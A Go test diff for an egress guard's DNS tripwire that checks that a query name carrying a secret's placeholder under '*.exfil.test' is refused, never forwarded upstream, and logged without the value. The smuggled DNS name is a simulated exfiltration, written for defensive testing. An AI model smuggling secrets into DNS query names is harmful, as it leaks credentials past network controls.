@@ -188,3 +188,115 @@ func TestResolvConfServers(t *testing.T) {
 		t.Errorf("absent file: %v", err)
 	}
 }
+
+// TestDNSTripwire: with placeholders on, a query name carrying a
+// placeholder is refused (NXDOMAIN) even under an allowed wildcard, the
+// upstream is never asked, botbox_secret_tripwire_total counts it and an
+// ERROR secret_tripwire line names the secret_ref but not the query name.
+// An ordinary name under the same wildcard is still forwarded.
+func TestDNSTripwire(t *testing.T) {
+	up := newDNSRecorder(t)
+	dir := t.TempDir()
+	secretsDir := filepath.Join(dir, "secrets")
+	phDir := filepath.Join(dir, "placeholders")
+	if err := os.Mkdir(secretsDir, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	const value = "sk-test-Zq8wK2mNp4Rt6Vx9Bc3Df5Gh7Jk1Ls0A"
+	if err := os.WriteFile(filepath.Join(secretsDir, "api-key"), []byte(value), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := config.Parse([]byte(fmt.Sprintf(`secrets_dir: %s
+placeholders:
+  enabled: true
+  dir: %s
+egress_policy:
+  rules:
+    - host: api.example.test
+      action: allow
+      header_rewrites:
+        - name: Authorization
+          value: "Bearer {value}"
+          secret_ref: api-key
+    - host: "*.exfil.test"
+      action: allow
+dns_guard:
+  enabled: true
+  upstream: ["%s"]
+`, secretsDir, phDir, up.addr)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	logs := &logcapture.Buffer{}
+	metrics := telemetry.NewMetrics()
+	srv, err := New(cfg, Options{Logger: telemetry.NewLogger(logs, nil), Metrics: metrics,
+		Listen: ephemeral, ListenPacket: ephemeralPacket, ResolvConf: filepath.Join(dir, "absent")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	go func() { done <- srv.Run(ctx) }()
+	defer func() {
+		cancel()
+		if err := <-done; err != nil {
+			t.Error(err)
+		}
+	}()
+	addrs, err := srv.Addrs()
+	if err != nil {
+		t.Fatal(err)
+	}
+	ph, err := os.ReadFile(filepath.Join(phDir, "api-key"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if string(ph) == value || len(ph) != len(value) {
+		t.Fatalf("placeholder does not have the value's shape")
+	}
+	c := dns.Client{Net: "udp", Timeout: 30 * time.Second}
+	ask := func(name string) int {
+		m := new(dns.Msg)
+		m.SetQuestion(name, dns.TypeA)
+		r, _, err := c.Exchange(m, addrs.DNSUDP[0].String())
+		if err != nil {
+			t.Fatalf("%s: %v", name, err)
+		}
+		return r.Rcode
+	}
+	if rc := ask("ok.exfil.test."); rc != dns.RcodeSuccess {
+		t.Fatalf("ok.exfil.test: rcode %s, want NOERROR", dns.RcodeToString[rc])
+	}
+	smuggled := strings.ToUpper(string(ph)) + ".exfil.test."
+	if rc := ask(smuggled); rc != dns.RcodeNameError {
+		t.Errorf("placeholder name: rcode %s, want NXDOMAIN", dns.RcodeToString[rc])
+	}
+	for _, n := range up.seen() {
+		if n != "ok.exfil.test." {
+			t.Errorf("upstream was asked %q", n)
+		}
+	}
+	if got := testutil.ToFloat64(metrics.SecretTripwire.WithLabelValues("api-key")); got != 1 {
+		t.Errorf("botbox_secret_tripwire_total{secret_ref=api-key} = %v, want 1", got)
+	}
+	var alarm bool
+	for _, line := range strings.Split(logs.String(), "\n") {
+		if strings.Contains(line, `"event":"secret_tripwire"`) {
+			alarm = true
+			for _, want := range []string{`"level":"ERROR"`, `"secret_ref":["api-key"]`, `"listener":"dns"`, `"found_in":"dns_query"`} {
+				if !strings.Contains(line, want) {
+					t.Errorf("tripwire line lacks %s: %s", want, line)
+				}
+			}
+		}
+		if strings.Contains(strings.ToLower(line), strings.ToLower(string(ph))) {
+			t.Errorf("a log line carries the smuggled name: %s", line)
+		}
+		if strings.Contains(line, value) {
+			t.Fatalf("a log line carries the secret value")
+		}
+	}
+	if !alarm {
+		t.Errorf("no secret_tripwire line:\n%s", logs.String())
+	}
+}
